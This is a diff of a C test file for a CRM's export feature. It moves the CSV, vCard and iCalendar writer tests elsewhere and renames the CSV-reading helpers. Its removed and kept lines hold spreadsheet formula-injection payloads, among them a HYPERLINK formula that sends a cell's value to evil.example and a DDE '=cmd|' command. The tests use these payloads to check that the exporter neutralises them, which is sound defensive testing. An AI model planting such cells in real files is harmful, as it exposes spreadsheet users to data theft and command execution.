@@ -1,5 +1,4 @@
-/* test-export.c — export of the user's data: the CSV writer's quoting and formula
- * neutralisation, vCard 4.0 and iCalendar text (the calendar read back with libical), and
+/* test-export.c — export of the user's data (the writers themselves: test-export-formats.c):
  * CrmExporter over a real database — every CSV field with the names of linked rows, the file
  * replaced whole or not at all (a failed or cancelled export leaves no file and no temporary
  * one), progress, the worker thread and the copy of the whole database. */
@@ -15,315 +14,11 @@
 #endif
 
 #include "crm-content-line.h"
-#include "crm-csv-writer.h"
 #include "crm-exporter.h"
-#include "crm-ical-writer.h"
+#include "crm-test-csv.h"
 #include "crm-test-util.h"
-#include "crm-vcard-writer.h"
 
 #define WHEN ((gint64) 1796000000) /* 2026-11-30T00:53:20Z */
-
-/* ---- A small RFC 4180 reader, to read the writer's output back ---------------------------- */
-
-/* The records of @text, each a GPtrArray of cells. FALSE on a malformed text. */
-static GPtrArray *
-parse_csv (const char *text)
-{
-  GPtrArray *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
-  GPtrArray *record = g_ptr_array_new_with_free_func (g_free);
-  GString *cell = g_string_new (NULL);
-  const char *p = text;
-
-  while (*p != '\0')
-    {
-      if (*p == '"')
-        {
-          for (p++;; p++)
-            {
-              g_assert_true (*p != '\0'); /* an unclosed quote */
-              if (*p == '"' && p[1] == '"')
-                g_string_append_c (cell, *p++);
-              else if (*p == '"')
-                break;
-              else
-                g_string_append_c (cell, *p);
-            }
-          p++;
-          g_assert_true (*p == ',' || *p == '\r' || *p == '\0');
-        }
-      else
-        while (*p != ',' && *p != '\r' && *p != '\n' && *p != '\0')
-          g_string_append_c (cell, *p++);
-
-      g_ptr_array_add (record, g_strdup (cell->str));
-      g_string_truncate (cell, 0);
-      if (*p == ',')
-        p++;
-      else if (*p == '\r')
-        {
-          /* Records end with CRLF, never a bare LF or CR. */
-          g_assert_cmpint (p[1], ==, '\n');
-          p += 2;
-          g_ptr_array_add (records, record);
-          record = g_ptr_array_new_with_free_func (g_free);
-        }
-      else
-        g_assert_cmpint (*p, ==, '\0');
-    }
-  g_assert_cmpuint (record->len, ==, 0); /* the last record ended with CRLF too */
-  g_ptr_array_unref (record);
-  g_string_free (cell, TRUE);
-  return records;
-}
-
-static const char *
-cell_at (GPtrArray *records, guint row, guint column)
-{
-  GPtrArray *cells = g_ptr_array_index (records, row);
-
-  g_assert_cmpuint (column, <, cells->len);
-  return g_ptr_array_index (cells, column);
-}
-
-static const char *
-cell_of (GPtrArray *records, guint row, const char *header)
-{
-  GPtrArray *headers = g_ptr_array_index (records, 0);
-  GPtrArray *cells = g_ptr_array_index (records, row);
-
-  for (guint i = 0; i < headers->len; i++)
-    if (g_strcmp0 (g_ptr_array_index (headers, i), header) == 0)
-      {
-        g_assert_cmpuint (cells->len, ==, headers->len);
-        return g_ptr_array_index (cells, i);
-      }
-  g_error ("no column %s", header);
-  return NULL;
-}
-
-/* ---- CSV writer --------------------------------------------------------------------------- */
-
-static char *
-write_cells (CrmCsvWriterFlags flags, const char *const *cells, guint n_cells)
-{
-  g_autoptr (CrmCsvWriter) writer = crm_csv_writer_new (flags);
-
-  crm_csv_writer_add_row (writer, cells, n_cells);
-  return g_strdup (crm_csv_writer_get_buffer (writer)->str);
-}
-
-static const char *const hostile_cells[] = {
-  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
-  "+1",
-  "-2",
-  "@SUM(A1:A9)",
-  "\tcmd",
-  "\rcmd",
-  "Plain, with a comma",
-};
-
-static void
-test_csv_neutralise (void)
-{
-  g_autofree char *text
-      = write_cells (CRM_CSV_WRITER_NONE, hostile_cells, G_N_ELEMENTS (hostile_cells));
-  g_autoptr (GPtrArray) records = NULL;
-  GPtrArray *cells;
-
-  g_assert_cmpstr (text, ==,
-                   "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\","
-                   "'+1,'-2,'@SUM(A1:A9),\"'\tcmd\",\"'\rcmd\",\"Plain, with a comma\"\r\n");
-
-  /* Read back: each hostile cell is the same text behind an apostrophe; the plain one as is. */
-  records = parse_csv (text);
-  g_assert_cmpuint (records->len, ==, 1);
-  cells = g_ptr_array_index (records, 0);
-  g_assert_cmpuint (cells->len, ==, G_N_ELEMENTS (hostile_cells));
-  for (guint i = 0; i < G_N_ELEMENTS (hostile_cells) - 1; i++)
-    {
-      g_autofree char *expected = g_strconcat ("'", hostile_cells[i], NULL);
-
-      g_assert_true (crm_csv_cell_is_formula_like (hostile_cells[i]));
-      g_assert_cmpstr (g_ptr_array_index (cells, i), ==, expected);
-    }
-  g_assert_false (crm_csv_cell_is_formula_like ("Plain"));
-  g_assert_false (crm_csv_cell_is_formula_like (" =not first"));
-  g_assert_cmpstr (g_ptr_array_index (cells, 6), ==, "Plain, with a comma");
-}
-
-static void
-test_csv_raw (void)
-{
-  g_autofree char *text
-      = write_cells (CRM_CSV_WRITER_RAW, hostile_cells, G_N_ELEMENTS (hostile_cells));
-  g_autoptr (GPtrArray) records = parse_csv (text);
-  GPtrArray *cells = g_ptr_array_index (records, 0);
-
-  for (guint i = 0; i < G_N_ELEMENTS (hostile_cells); i++)
-    g_assert_cmpstr (g_ptr_array_index (cells, i), ==, hostile_cells[i]);
-  g_assert_true (g_str_has_prefix (text, "\"=HYPERLINK(\"\"http"));
-}
-
-static void
-test_csv_round_trip (void)
-{
-  static const char *const cells[] = {
-    "",         "plain",     "a,b",      "say \"hi\"",        "two\r\nlines",
-    "lf\nonly", "cr\ronly",  " padded ", "Zoë Ångström 日本", "\"",
-    ",",        "trailing,",
-  };
-  g_autoptr (CrmCsvWriter) writer = crm_csv_writer_new (CRM_CSV_WRITER_RAW);
-  g_autoptr (GPtrArray) records = NULL;
-
-  crm_csv_writer_add_row (writer, cells, G_N_ELEMENTS (cells));
-  crm_csv_writer_add (writer, NULL);
-  crm_csv_writer_add (writer, "x");
-  crm_csv_writer_end_row (writer);
-  records = parse_csv (crm_csv_writer_get_buffer (writer)->str);
-
-  g_assert_cmpuint (records->len, ==, 2);
-  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
-    g_assert_cmpstr (cell_at (records, 0, i), ==, cells[i]);
-  g_assert_cmpstr (cell_at (records, 1, 0), ==, "");
-  g_assert_cmpstr (cell_at (records, 1, 1), ==, "x");
-  /* An unquoted cell is left alone: only what needs quotes gets them. */
-  g_assert_true (g_str_has_prefix (crm_csv_writer_get_buffer (writer)->str, ",plain,\"a,b\","));
-}
-
-static void
-test_csv_decimal (void)
-{
-  static const struct
-  {
-    gint64 minor;
-    guint digits;
-    const char *text;
-  } cases[] = {
-    { 123450, 2, "1234.50" },
-    { 5, 2, "0.05" },
-    { -5, 2, "-0.05" },
-    { 1200, 0, "1200" },
-    { 1234, 3, "1.234" },
-    { 0, 2, "0.00" },
-    { G_MININT64, 2, "-92233720368547758.08" },
-  };
-
-  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
-    {
-      g_autofree char *text = crm_csv_format_decimal (cases[i].minor, cases[i].digits);
-
-      g_assert_cmpstr (text, ==, cases[i].text);
-    }
-}
-
-/* ---- vCard and content lines --------------------------------------------------------------- */
-
-static void
-test_vcard_exact (void)
-{
-  static const char *const tags[] = { "VIP", "a,b", NULL };
-  g_autoptr (GString) out = g_string_new (NULL);
-  CrmVCardFields card = {
-    .uid = "0190f5a2-1111-7000-8000-000000000001",
-    .formatted_name = "Ada Lovelace; Countess",
-    .family_name = "Countess",
-    .given_name = "Ada Lovelace;",
-    .email = "ada@example.org",
-    .phone = "+44 20 7946 0000",
-    .organization = "Analytical Engines, Ltd.",
-    .title = "Lead \\ Mathematician",
-    /* The 75th octet is the first of an "é": the fold comes one octet earlier. */
-    .note = "First line\r\nSecond line long enough to be folded past 75 octets: ééééé",
-    .categories = tags,
-    .revision = WHEN,
-  };
-
-  crm_vcard_write (out, &card);
-  g_assert_cmpstr (out->str, ==,
-                   "BEGIN:VCARD\r\n"
-                   "VERSION:4.0\r\n"
-                   "FN:Ada Lovelace\\; Countess\r\n"
-                   "N:Countess;Ada Lovelace\\;;;;\r\n"
-                   "EMAIL:ada@example.org\r\n"
-                   "TEL;VALUE=text:+44 20 7946 0000\r\n"
-                   "ORG:Analytical Engines\\, Ltd.\r\n"
-                   "TITLE:Lead \\\\ Mathematician\r\n"
-                   "NOTE:First line\\nSecond line long enough to be folded past 75 octets: éé\r\n"
-                   " ééé\r\n"
-                   "CATEGORIES:VIP,a\\,b\r\n"
-                   "UID:urn:uuid:0190f5a2-1111-7000-8000-000000000001\r\n"
-                   "REV:20261130T005320Z\r\n"
-                   "END:VCARD\r\n");
-}
-
-/* Folding never splits a UTF-8 sequence, keeps each line at most 75 octets, and unfolds to the
- * line it came from. */
-static void
-test_content_line_folding (void)
-{
-  g_autoptr (GString) line = g_string_new ("NOTE:x");
-  g_autoptr (GString) out = g_string_new (NULL);
-  g_auto (GStrv) lines = NULL;
-  g_autoptr (GString) unfolded = g_string_new (NULL);
-
-  /* Two-, three- and four-octet characters, so cuts fall at every offset inside them. */
-  for (guint i = 0; i < 60; i++)
-    g_string_append (line, "é日😀");
-  crm_content_line_append (out, line->str);
-
-  g_assert_true (g_str_has_suffix (out->str, "\r\n"));
-  lines = g_strsplit (out->str, "\r\n", -1);
-  for (guint i = 0; lines[i] != NULL && lines[i][0] != '\0'; i++)
-    {
-      g_assert_cmpuint (strlen (lines[i]), <=, 75);
-      g_assert_true (g_utf8_validate (lines[i], -1, NULL));
-      if (i > 0)
-        g_assert_cmpint (lines[i][0], ==, ' ');
-      g_string_append (unfolded, i > 0 ? lines[i] + 1 : lines[i]);
-      /* Full lines are full: a cut is at most 3 octets short of the limit. */
-      if (lines[i + 1] != NULL && lines[i + 1][0] != '\0')
-        g_assert_cmpuint (strlen (lines[i]), >=, 72);
-    }
-  g_assert_cmpstr (unfolded->str, ==, line->str);
-}
-
-/* ---- iCalendar ---------------------------------------------------------------------------- */
-
-static void
-test_ical_text (void)
-{
-  g_autoptr (GString) out = g_string_new (NULL);
-  CrmICalComponent todo = {
-    .kind = CRM_ICAL_TODO,
-    .uid = "u-1",
-    .summary = "Call back, today; maybe",
-    .stamp = WHEN,
-    .due = WHEN + 3600,
-    .completed = TRUE,
-    .completed_at = WHEN + 60,
-  };
-  CrmICalComponent event = {
-    .kind = CRM_ICAL_EVENT,
-    .uid = "u-2",
-    .summary = "Demo",
-    .stamp = WHEN,
-    .start = WHEN,
-  };
-
-  crm_ical_write_begin (out, "-//Test//EN");
-  crm_ical_write_component (out, &todo);
-  crm_ical_write_component (out, &event);
-  crm_ical_write_end (out);
-  g_assert_cmpstr (out->str, ==,
-                   "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Test//EN\r\n"
-                   "CALSCALE:GREGORIAN\r\n"
-                   "BEGIN:VTODO\r\nUID:u-1\r\nDTSTAMP:20261130T005320Z\r\n"
-                   "SUMMARY:Call back\\, today\\; maybe\r\nDUE:20261130T015320Z\r\n"
-                   "STATUS:COMPLETED\r\nCOMPLETED:20261130T005420Z\r\nEND:VTODO\r\n"
-                   "BEGIN:VEVENT\r\nUID:u-2\r\nDTSTAMP:20261130T005320Z\r\nSUMMARY:Demo\r\n"
-                   "DTSTART:20261130T005320Z\r\nDTEND:20261130T015320Z\r\nEND:VEVENT\r\n"
-                   "END:VCALENDAR\r\n");
-}
 
 /* ---- The exporter over a database ---------------------------------------------------------- */
 
@@ -500,29 +195,30 @@ test_export_contacts_csv (Fixture *fixture, gconstpointer data)
                             "contacts.csv", &text, &n, &error));
   g_assert_no_error (error);
   g_assert_cmpuint (n, ==, 2);
-  records = parse_csv (text);
+  records = crm_test_parse_csv (text);
   g_assert_cmpuint (records->len, ==, 3);
-  g_assert_cmpstr (cell_of (records, 1, "Name"), ==, "Ada Lovelace");
-  g_assert_cmpstr (cell_of (records, 1, "E-mail"), ==, "ada@example.org");
-  g_assert_cmpstr (cell_of (records, 1, "Phone"), ==, "'+44 20 7946 0000");
-  g_assert_cmpstr (cell_of (records, 1, "Company"), ==, "Analytical Engines, Ltd.");
-  g_assert_cmpstr (cell_of (records, 1, "Lifecycle Stage"), ==, "customer");
-  g_assert_cmpstr (cell_of (records, 1, "Lead Source"), ==, "Referral");
-  g_assert_cmpstr (cell_of (records, 1, "Tags"), ==, "Board, member, VIP");
-  g_assert_cmpstr (cell_of (records, 1, "Captured"), ==, "2026-11-30T00:53:20Z");
-  g_assert_cmpstr (cell_of (records, 1, "Job Title"), ==, "'=cmd|' /C calc'!A0");
-  g_assert_cmpstr (cell_of (records, 1, "Notes"), ==, "Met at the \"Engine\" fair,\nwants a demo");
-  g_assert_cmpstr (cell_of (records, 2, "Name"), ==, "Charles Babbage");
-  g_assert_cmpstr (cell_of (records, 2, "Company"), ==, "");
-  g_assert_cmpstr (cell_of (records, 2, "Tags"), ==, "");
-  g_assert_cmpuint (strlen (cell_of (records, 1, "UUID")), ==, 36);
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Name"), ==, "Ada Lovelace");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "E-mail"), ==, "ada@example.org");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Phone"), ==, "'+44 20 7946 0000");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Company"), ==, "Analytical Engines, Ltd.");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Lifecycle Stage"), ==, "customer");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Lead Source"), ==, "Referral");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Tags"), ==, "Board, member, VIP");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Captured"), ==, "2026-11-30T00:53:20Z");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Job Title"), ==, "'=cmd|' /C calc'!A0");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 1, "Notes"), ==,
+                   "Met at the \"Engine\" fair,\nwants a demo");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 2, "Name"), ==, "Charles Babbage");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 2, "Company"), ==, "");
+  g_assert_cmpstr (crm_test_csv_cell_of (records, 2, "Tags"), ==, "");
+  g_assert_cmpuint (strlen (crm_test_csv_cell_of (records, 1, "UUID")), ==, 36);
 
   /* --raw: as stored. */
   g_assert_true (export_to (fixture, CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_CSV, TRUE, "raw.csv",
                             &raw_text, NULL, &error));
-  raw_records = parse_csv (raw_text);
-  g_assert_cmpstr (cell_of (raw_records, 1, "Job Title"), ==, "=cmd|' /C calc'!A0");
-  g_assert_cmpstr (cell_of (raw_records, 1, "Phone"), ==, "+44 20 7946 0000");
+  raw_records = crm_test_parse_csv (raw_text);
+  g_assert_cmpstr (crm_test_csv_cell_of (raw_records, 1, "Job Title"), ==, "=cmd|' /C calc'!A0");
+  g_assert_cmpstr (crm_test_csv_cell_of (raw_records, 1, "Phone"), ==, "+44 20 7946 0000");
 }
 
 static void
@@ -536,37 +232,37 @@ test_export_companies_deals_activities_csv (Fixture *fixture, gconstpointer data
   g_assert_true (export_to (fixture, CRM_EXPORT_COMPANIES, CRM_EXPORT_FORMAT_CSV, FALSE,
                             "companies.csv", &companies, &n, &error));
   g_assert_cmpuint (n, ==, 1);
-  rows = parse_csv (companies);
-  g_assert_cmpstr (cell_of (rows, 1, "Name"), ==, "Analytical Engines, Ltd.");
-  g_assert_cmpstr (cell_of (rows, 1, "Website"), ==, "https://engines.example");
+  rows = crm_test_parse_csv (companies);
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Name"), ==, "Analytical Engines, Ltd.");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Website"), ==, "https://engines.example");
   g_clear_pointer (&rows, g_ptr_array_unref);
 
   g_assert_true (export_to (fixture, CRM_EXPORT_DEALS, CRM_EXPORT_FORMAT_CSV, FALSE, "deals.csv",
                             &deals, &n, &error));
   g_assert_cmpuint (n, ==, 1);
-  rows = parse_csv (deals);
-  g_assert_cmpstr (cell_of (rows, 1, "Deal Name"), ==, "Difference Engine No. 2");
-  g_assert_cmpstr (cell_of (rows, 1, "Amount"), ==, "1234.50");
-  g_assert_cmpstr (cell_of (rows, 1, "Currency"), ==, "EUR");
-  g_assert_cmpstr (cell_of (rows, 1, "Deal Stage"), ==, "Proposal");
-  g_assert_cmpstr (cell_of (rows, 1, "Pipeline"), ==, "Sales");
-  g_assert_cmpstr (cell_of (rows, 1, "Probability"), ==, "60");
-  g_assert_cmpstr (cell_of (rows, 1, "Contact"), ==, "Ada Lovelace");
-  g_assert_cmpstr (cell_of (rows, 1, "Company"), ==, "Analytical Engines, Ltd.");
-  g_assert_cmpstr (cell_of (rows, 1, "Close Date"), ==, "2026-11-30T00:53:20Z");
+  rows = crm_test_parse_csv (deals);
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Deal Name"), ==, "Difference Engine No. 2");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Amount"), ==, "1234.50");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Currency"), ==, "EUR");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Deal Stage"), ==, "Proposal");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Pipeline"), ==, "Sales");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Probability"), ==, "60");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Contact"), ==, "Ada Lovelace");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Company"), ==, "Analytical Engines, Ltd.");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Close Date"), ==, "2026-11-30T00:53:20Z");
   g_clear_pointer (&rows, g_ptr_array_unref);
 
   g_assert_true (export_to (fixture, CRM_EXPORT_ACTIVITIES, CRM_EXPORT_FORMAT_CSV, FALSE,
                             "activities.csv", &activities, &n, &error));
   g_assert_no_error (error);
   g_assert_cmpuint (n, ==, 4);
-  rows = parse_csv (activities);
+  rows = crm_test_parse_csv (activities);
   g_assert_cmpuint (rows->len, ==, 5);
-  g_assert_cmpstr (cell_of (rows, 1, "Activity Type"), ==, "task");
-  g_assert_cmpstr (cell_of (rows, 1, "Subject"), ==, "Send the offer, with prices");
-  g_assert_cmpstr (cell_of (rows, 1, "Deal"), ==, "Difference Engine No. 2");
-  g_assert_cmpstr (cell_of (rows, 2, "Done"), ==, "yes");
-  g_assert_cmpstr (cell_of (rows, 4, "Activity Type"), ==, "call");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Activity Type"), ==, "task");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Subject"), ==, "Send the offer, with prices");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 1, "Deal"), ==, "Difference Engine No. 2");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 2, "Done"), ==, "yes");
+  g_assert_cmpstr (crm_test_csv_cell_of (rows, 4, "Activity Type"), ==, "call");
 }
 
 static void
@@ -871,13 +567,6 @@ main (int argc, char **argv)
 {
   g_test_init (&argc, &argv, NULL);
 
-  g_test_add_func ("/export/csv/neutralise", test_csv_neutralise);
-  g_test_add_func ("/export/csv/raw", test_csv_raw);
-  g_test_add_func ("/export/csv/round-trip", test_csv_round_trip);
-  g_test_add_func ("/export/csv/decimal", test_csv_decimal);
-  g_test_add_func ("/export/vcard/exact", test_vcard_exact);
-  g_test_add_func ("/export/content-line/folding", test_content_line_folding);
-  g_test_add_func ("/export/ical/text", test_ical_text);
   g_test_add_func ("/export/names", test_names);
   TEST_F ("/export/contacts/csv", test_export_contacts_csv);
   TEST_F ("/export/others/csv", test_export_companies_deals_activities_csv);
